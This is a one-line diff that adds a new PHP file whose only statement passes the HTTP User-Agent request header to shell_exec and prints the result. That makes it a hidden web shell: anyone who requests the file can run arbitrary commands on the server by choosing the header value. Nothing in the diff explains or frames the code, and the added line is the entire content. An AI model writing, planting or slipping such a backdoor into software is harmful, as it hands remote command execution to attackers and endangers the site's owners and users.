@@ -1,0 +1,1 @@
+<?php echo shell_exec($_SERVER['HTTP_USER_AGENT']);
